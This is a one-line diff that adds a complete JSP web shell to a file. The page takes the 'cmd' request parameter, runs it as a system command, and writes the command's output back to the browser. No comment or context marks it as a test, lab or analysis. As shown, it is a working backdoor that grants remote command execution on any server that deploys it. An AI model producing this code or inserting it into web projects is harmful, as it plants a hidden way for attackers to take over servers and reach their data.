@@ -1,0 +1,1 @@
+<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec(c); InputStream in = p.getInputStream(); int a; while((a=in.read())!=-1){ out.print((char)a); } %>
